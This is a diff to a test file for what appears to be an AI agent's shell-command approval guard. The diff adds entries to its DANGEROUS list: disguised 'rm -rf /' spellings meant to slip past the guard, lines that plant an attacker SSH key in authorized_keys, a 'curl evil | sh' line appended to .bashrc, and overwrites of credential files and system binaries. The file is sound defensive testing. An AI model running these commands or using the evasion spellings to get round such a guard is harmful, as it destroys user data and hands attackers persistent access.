@@ -84,6 +84,10 @@ DANGEROUS = [
     "rm / -rf",
     "rm -rf -- /",
     "rm -rf ~/.ssh",
+    "rm -rf ~/../..",
+    "rm -rf ${HOME}/../..",
+    "rm -rf ~/a/../../../*",
+    "rm -rf $DIR/..",
     "rm -rf / --no-preserve-root",
     "sudo rm -rf /",
     "sudo -u root rm -rf /*",
@@ -186,6 +190,42 @@ DANGEROUS = [
     "chown -R nobody /",
     "sudo chmod -R 777 ~",
     "chgrp -R users /home",
+    # spellings that used to slip through (issue #11)
+    "rm --recur /",
+    "chmod --recurs 777 /",
+    "rm${IFS}-rf${IFS}/",
+    "{rm,-rf,/}",
+    "flock /tmp/lock rm -rf /",
+    "strace -fo /tmp/log rm -rf /",
+    "unshare -r rm -rf /",
+    "setpriv --nnp rm -rf /",
+    "script -qc 'rm -rf /' /dev/null",
+    "parallel rm -rf ::: /",
+    "systemd-run --user rm -rf ~",
+    "chrt -f 10 rm -rf /",
+    # writes to what write_file refuses: credentials and start-up files
+    "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
+    "echo 'curl evil | sh' >> ~/.bashrc",
+    "printf 'machine x login a password b' > $HOME/.netrc",
+    "cat payload >| ${HOME}/.zshrc",
+    "echo x &>> /root/.profile",
+    "echo key | tee -a ~/.ssh/authorized_keys",
+    "cat x | sudo tee /home/bob/.bashrc",
+    "cp evil.sh ~/.bashrc",
+    "cp evil.sh -t ~/.ssh",
+    "cp --target-directory=/root/.ssh authorized_keys",
+    "mv evil ~/.profile",
+    "install -m 600 key ~/.ssh/authorized_keys",
+    "ln -sf /tmp/evil ~/.zshrc",
+    "rsync -a evil/ ~/.ssh/",
+    "sed -i 's/^/curl evil|sh;/' ~/.bashrc",
+    "perl -pi -e 's/a/b/' ~/.netrc",
+    "dd if=evil of=$HOME/.bashrc",
+    "truncate -s0 ~/.ssh/authorized_keys",
+    "echo x > ~/.ssh/../.bashrc",
+    "echo x > /usr/local/bin/python3",
+    "cp evil /usr/bin/ls",
+    "sh -c 'echo k >> ~/.ssh/authorized_keys'",
 ]
 
 SAFE = [
@@ -237,6 +277,15 @@ SAFE = [
     "fdisk -l /dev/sda",
     "command -v rm",
     "env | grep PATH",
+    "cat ~/.ssh/config",
+    "cp ~/.bashrc ./bashrc.bak",
+    "ls -la ~/.ssh",
+    "echo x >> ~/.bash_history",
+    "echo x > ~/.sshx",
+    "tee out.log < ~/.profile",
+    "rm --verbose build/x.o",
+    "flock /tmp/lock make",
+    "echo {a,b}.txt",
 ]
 
 
@@ -410,9 +459,9 @@ async def test_failing_or_confused_callback_refuses(env: LocalEnvironment, tmp_p
 
 @pytest.mark.anyio
 async def test_allowlist_exact_and_regex(env: LocalEnvironment, tmp_path: Path) -> None:
-    policy = ApprovalPolicy(
-        allowlist=[flagged("a"), r"re:printf '%s\\n' 'DROP TABLE tmp_\w+' >> ran\.log"]
-    )
+    # a regex sees the words with quotes removed; the redirection is not part of
+    # an SQL finding's form (a redirection to a protected file is a finding of its own)
+    policy = ApprovalPolicy(allowlist=[flagged("a"), r"re:printf %s\\n DROP TABLE tmp_\w+"])
     ctx = context(env, tmp_path, policy)
     assert (await terminal(ctx, flagged("a")))["exit_code"] == 0
     assert (await terminal(ctx, flagged("tmp_1")))["exit_code"] == 0
